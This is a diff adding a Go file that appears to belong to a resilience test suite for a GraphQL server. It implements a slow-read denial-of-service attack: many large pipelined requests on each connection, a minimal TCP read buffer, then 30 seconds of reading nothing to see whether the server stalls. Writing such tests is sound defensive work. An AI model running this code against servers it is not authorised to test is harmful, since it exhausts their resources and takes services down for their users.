@@ -1,0 +1,164 @@
+package attack
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"regexp"
+	"slices"
+	"strings"
+	"time"
+)
+
+const (
+	// notReading is for how long nothing is read: the 15 s that a reader has to take an answer, and as many again until what lies
+	// between him and the server is full.
+	notReading = 30 * time.Second
+	// readBuffer is all that a connection may hold on the attacker's side.
+	readBuffer = 4 << 10
+	// unread is how much is asked for on one connection: more than the system keeps for one.
+	unread = 24 << 20
+	// maxPipelined bounds the requests on one connection.
+	maxPipelined = 4_000
+	// drainTimeout is for what the system has kept to be read in the end.
+	drainTimeout = 10 * time.Second
+)
+
+// noReaders asks for more than fits between client and server and reads nothing. Each connection must be ended.
+func noReaders(ctx context.Context, s *scene) error {
+	requests, err := s.largeRequests(ctx)
+	if err != nil {
+		return err
+	}
+	s.each(ctx, s.attack.connections, func(attacker int) {
+		one := requests[attacker%len(requests)]
+		s.ask()
+		s.hears(one.name, one.leave(ctx, s.server.Addr()))
+	})
+	return nil
+}
+
+// request is one that has a large answer.
+type request struct {
+	name, text string
+	// size is of one answer; 0 for one that never ends.
+	size int
+}
+
+// largeRequests are one for each sort of answer, with the sizes that they have now.
+func (s *scene) largeRequests(ctx context.Context) ([]request, error) {
+	paths := []string{"/schema.graphql", "/metrics", "/playground"}
+	if asset, err := s.asset(ctx); err != nil {
+		return nil, err
+	} else if asset != "" {
+		paths = append(paths, asset)
+	}
+	var all []request
+	for _, path := range paths {
+		all = append(all, request{name: path, text: "GET " + path + " HTTP/1.1\r\nHost: " + s.server.Addr() + "\r\n\r\n"})
+	}
+	stations := `{"query":"{` + strings.TrimSpace(aliases(20, "stations(first:100){nodes{id code name}}")) + `}"}`
+	all = append(all, request{name: "answers", text: post(s.server.Addr(), stations, "")})
+	for n := range all {
+		size, err := sizeOf(ctx, s.server.Addr(), all[n].text)
+		if err != nil {
+			return nil, fmt.Errorf("%s: %w", all[n].name, err)
+		}
+		all[n].size = size
+	}
+	// What is too small would fit on the way: a server that was built without a playground says so in a line.
+	all = slices.DeleteFunc(all, func(r request) bool { return r.size*maxPipelined < unread })
+	events := `{"query":"subscription($r:[ID!]!){seatAvailability(runIds:$r){` + strings.TrimSpace(aliases(40, "run{calls{arrival departure distanceKm saleClosesAt}}")) +
+		`}}","variables":{"r":["` + s.target.ID + `"]}}`
+	return append(all, request{name: "events", text: post(s.server.Addr(), events, "Accept: text/event-stream\r\n")}), nil
+}
+
+func post(server, body, fields string) string {
+	return fmt.Sprintf("POST /graphql HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n%s", server, fields, len(body), body)
+}
+
+var assetPath = regexp.MustCompile(`/playground/assets/[A-Za-z0-9_.-]+\.js`)
+
+// asset is the playground's largest part, if there is one.
+func (s *scene) asset(ctx context.Context) (string, error) {
+	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+s.server.Addr()+"/playground", nil)
+	if err != nil {
+		return "", err
+	}
+	request.Close = true
+	response, err := http.DefaultClient.Do(request)
+	if err != nil {
+		return "", err
+	}
+	defer response.Body.Close()
+	page, err := io.ReadAll(io.LimitReader(response.Body, announced))
+	return string(assetPath.Find(page)), err
+}
+
+// sizeOf is how long one whole answer to a request is.
+func sizeOf(ctx context.Context, server, text string) (int, error) {
+	ctx, cancel := context.WithTimeout(ctx, answerTimeout)
+	defer cancel()
+	conn, err := new(net.Dialer).DialContext(ctx, "tcp", server)
+	if err != nil {
+		return 0, err
+	}
+	defer conn.Close()
+	deadline, _ := ctx.Deadline() // it has one
+	if err := conn.SetDeadline(deadline); err != nil {
+		return 0, err
+	}
+	if _, err := io.WriteString(conn, strings.Replace(text, "\r\n\r\n", "\r\nConnection: close\r\n\r\n", 1)); err != nil {
+		return 0, err
+	}
+	n, err := io.Copy(io.Discard, conn)
+	return int(n), err
+}
+
+// leave asks, reads nothing, and finds out in the end whether the server has waited all the time.
+func (r request) leave(ctx context.Context, server string) reply {
+	ctx = context.WithoutCancel(ctx)
+	dialing, cancel := context.WithTimeout(ctx, answerTimeout)
+	defer cancel()
+	conn, err := new(net.Dialer).DialContext(dialing, "tcp", server)
+	if err != nil {
+		return silence(lost(err))
+	}
+	defer conn.Close()
+	if err := setReadBuffer(conn, readBuffer); err != nil {
+		return silence(err.Error())
+	}
+	many := 1
+	if r.size > 0 {
+		many = min(unread/r.size+1, maxPipelined)
+	}
+	until := time.Now().Add(notReading)
+	if err := conn.SetWriteDeadline(until); err != nil {
+		return silence(err.Error())
+	}
+	// It stops when the server takes no more, too.
+	if _, err := io.WriteString(conn, strings.Repeat(r.text, many)); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
+		return reply{text: leftAlone}
+	}
+	pause(ctx, time.Until(until))
+	if err := errors.Join(conn.SetReadDeadline(time.Now().Add(drainTimeout)), setReadBuffer(conn, lookBuffer)); err != nil {
+		return silence(err.Error())
+	}
+	came, err := io.CopyBuffer(onlyWriter{io.Discard}, conn, make([]byte, lookBuffer))
+	if errors.Is(err, os.ErrDeadlineExceeded) || r.size > 0 && came >= int64(many*r.size)*9/10 {
+		return silence(fmt.Sprintf("still served after %s without reading", notReading))
+	}
+	return reply{text: leftAlone}
+}
+
+func setReadBuffer(conn net.Conn, bytes int) error {
+	tcp, ok := conn.(*net.TCPConn)
+	if !ok {
+		return fmt.Errorf("%T is no TCP", conn)
+	}
+	return tcp.SetReadBuffer(bytes)
+}
